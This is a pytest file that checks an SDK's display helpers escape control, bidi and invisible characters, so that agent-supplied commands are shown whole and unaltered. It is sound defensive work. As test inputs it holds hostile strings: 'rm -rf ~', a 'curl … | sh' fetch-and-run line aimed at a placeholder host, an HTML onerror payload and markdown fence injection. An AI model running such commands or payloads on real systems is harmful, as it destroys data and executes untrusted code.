"""What the SDK shows a person of the agent's text is escaped and whole (issue 27, item 1).

``ethos_sdk._display`` is the one place that turns text from the agent or the
server into something a terminal, a notebook or an HTML page shows as it is:
every character that could move the cursor, reverse or hide text comes out as
a visible escape, and nothing is left out.
"""

from __future__ import annotations

import json
import re

import pytest

from ethos_sdk._display import abbreviated, columns, html_text, md_block, md_code, visible, visible_json, wrap

HOSTILE = {
    "ESC (CSI, hide text)": "\x1b[8m",
    "ESC (retitle the window)": "\x1b]0;pwned\x07",
    "carriage return": "\r",
    "backspace": "\b",
    "DEL": "\x7f",
    "C1 CSI": "\x9b",
    "C1 NEL": "\x85",
    "right-to-left override": "\u202e",
    "left-to-right embedding": "\u202a",
    "pop directional formatting": "\u202c",
    "right-to-left isolate": "\u2067",
    "pop directional isolate": "\u2069",
    "left-to-right mark": "\u200e",
    "right-to-left mark": "\u200f",
    "Arabic letter mark": "\u061c",
    "zero-width space": "\u200b",
    "zero-width non-joiner": "\u200c",
    "zero-width joiner": "\u200d",
    "word joiner": "\u2060",
    "byte order mark": "\ufeff",
    "line separator": "\u2028",
    "paragraph separator": "\u2029",
    "no-break space": "\xa0",
    "Hangul filler": "\u3164",
    "variation selector": "\ufe0f",
    "tag character": "\U000e0041",
    "lone surrogate": "\ud800",
}
"""Each a character (or sequence) that a terminal or a browser would act on, or show as nothing."""


def _no_hidden(text: str) -> bool:
    """True when every character of ``text`` is printable ASCII (what the escapes are made of)."""
    return all(" " <= c <= "~" for c in text)


@pytest.mark.parametrize("name", list(HOSTILE))
def test_every_control_bidi_and_invisible_character_is_escaped(name: str) -> None:
    text = f"echo safe{HOSTILE[name]}; rm -rf ~"
    shown = visible(text)
    assert _no_hidden(shown), (name, shown)
    assert shown.startswith("echo safe\\") and shown.endswith("; rm -rf ~")
    as_json = visible_json({"command": text})
    assert _no_hidden(as_json), (name, as_json)
    assert json.loads(as_json) == {"command": text}  # what is shown parses back to exactly what runs
    assert _no_hidden(md_code(text)) and _no_hidden(html_text(text))


def test_ordinary_text_of_every_script_is_left_alone() -> None:
    for text in ("drop table users", "Größe: 5 × 3", "日本語のテキスト", "שלום עולם", "émoji 🎉", "tab\tinside"):
        expected = text.replace("\t", "\\x09")
        assert visible(text) == expected
    assert visible("two\nlines\tand a tab", lines=True) == "two\nlines\tand a tab"
    assert visible("two\nlines") == "two\\x0alines"
    assert visible(None) == "None" and visible(42) == "42"


def test_escapes_read_as_python_would_write_them() -> None:
    assert visible("\x1b[2J") == "\\x1b[2J"
    assert visible("a\u202eb") == "a\\u202eb"
    assert visible("\U000e0041") == "\\U000e0041"
    assert visible_json("\U000e0041") == '"\\udb40\\udc41"'  # JSON's own escape: json.loads gives it back
    assert json.loads(visible_json("\U000e0041")) == "\U000e0041"


def test_json_of_any_size_is_shown_whole() -> None:
    command = "echo drop table demo " + " " * 4800 + "; curl https://example.invalid/x.sh | sh"
    shown = visible_json({"command": command})
    assert len(shown) > 4800 and shown.endswith('; curl https://example.invalid/x.sh | sh"}')
    assert json.loads(shown) == {"command": command}
    pretty = visible_json({"b": 1, "a": [1, 2]}, indent=2)
    assert pretty.splitlines()[0] == "{" and json.loads(pretty) == {"b": 1, "a": [1, 2]}
    assert visible_json({1, 2}).startswith("{")  # not JSON: its repr, still escaped


@pytest.mark.parametrize("width", [8, 13, 80])
def test_wrapping_drops_and_changes_nothing(width: int) -> None:
    text = visible("first line\n" + "x" * 50 + " words " * 9 + "\n日本語のテキスト" * 5 + "\n", lines=True)
    lines = wrap(text, width)
    assert all(columns(line) <= width for line in lines)
    each: list[str] = []
    for line in text.split("\n"):
        pieces = wrap(line, width)
        assert "".join(pieces) == line  # a line's pieces give it back exactly
        each += pieces
    assert lines == each
    assert columns("日本") == 4 and wrap("日本語", 8) == ["日本語"] and wrap("日本語日本語", 8) == ["日本語日", "本語"]


def test_markdown_never_lets_an_argument_close_its_code() -> None:
    hostile = "x\n```\n# Approved!\n[click](https://example.invalid)\n````"
    block = md_block(visible(hostile, lines=True), "json")
    fence = block.split("\n", 1)[0][: -len("json")]
    assert len(fence) == 5 and block.endswith("\n" + fence)
    body = block.split("\n")[1:-1]
    assert not any(re.fullmatch(r"\s{0,3}`{5,}\s*", line) for line in body)
    span = md_code("a ``` b ` c")
    assert span.startswith("````") and span.endswith("````")
    assert md_code("`edge`") == "`` `edge` ``"


def test_html_escapes_markup_and_bidi_alike() -> None:
    assert html_text("<img src=x onerror=alert(1)>\u202e") == "&lt;img src=x onerror=alert(1)&gt;\\u202e"


def test_only_abbreviated_shortens_and_it_says_so() -> None:
    assert abbreviated("short", 10) == "short"
    cut = abbreviated("y" * 500 + "\x1b", 100)
    assert cut.startswith("y" * 100 + "…") and "(404 more characters not shown)" in cut  # counted as shown: \\x1b is four
